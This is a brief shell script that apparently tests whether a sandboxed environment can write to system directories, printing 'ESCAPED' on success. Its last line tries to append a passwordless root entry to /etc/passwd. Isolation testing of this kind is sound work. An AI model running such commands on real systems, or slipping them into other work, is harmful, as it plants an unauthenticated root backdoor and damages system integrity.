# Writes where the image is.
for place in / /etc /usr/bin /bin /lib /root /var /opt /sbin /.fleetrunner; do
  if touch "$place/pwned" 2>/dev/null; then echo "ESCAPED: $place"; fi
done
{ echo 'root::0:0::/:/bin/sh' >>/etc/passwd; } 2>/dev/null && echo "ESCAPED: /etc/passwd"
